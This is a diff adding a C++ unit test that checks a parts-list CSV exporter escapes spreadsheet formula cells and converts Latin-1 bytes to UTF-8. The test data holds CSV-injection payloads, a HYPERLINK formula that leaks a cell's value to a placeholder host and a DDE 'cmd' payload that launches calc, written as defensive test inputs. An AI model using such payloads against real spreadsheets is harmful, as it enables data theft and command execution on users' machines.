@@ -154,6 +154,18 @@ TEST(PartsList, NamesComeFromThePaletteAndTheSwatchesAndTheCsvQuotesWhatItMust) 
                                   "Brick 2x4,2x4x3,\"Red, see-through\",1\r\n"
                                   "\"Tower, \"\"big\"\"\",\"Tower, \"\"big\"\"\",White,1\r\n"
                                   "Total: 7 stones in 4 kinds,,,7\r\n");
+    // A cell a spreadsheet would run as a formula is kept as text; bytes
+    // that are not UTF-8 are read as Latin-1.
+    TPartsList hostile;
+    hostile.Stones = 4;
+    for (const char* name : {"=HYPERLINK(\"http://x/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"})
+        hostile.Rows.push_back({name, "caf\xE9", 0, false, "Red", 1, nullptr});
+    EXPECT_EQ(PartsCsvText(hostile), "Name,Part,Colour,Count\r\n"
+                                     "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",caf\xC3\xA9,Red,1\r\n"
+                                     "\"'+1+cmd|' /C calc'!A0\",caf\xC3\xA9,Red,1\r\n"
+                                     "\"'-2+3\",caf\xC3\xA9,Red,1\r\n"
+                                     "\"'@SUM(1)\",caf\xC3\xA9,Red,1\r\n"
+                                     "Total: 4 stones in 4 kinds,,,4\r\n");
     // The set counts each caption as the supply does: a stone under its own
     // caption (not turned about), up to its first comma (the caption rule).
     EXPECT_EQ(PartsSetText(list), "\"big\", 1\n2x4x3, 5\n4x2x3, 1\n");
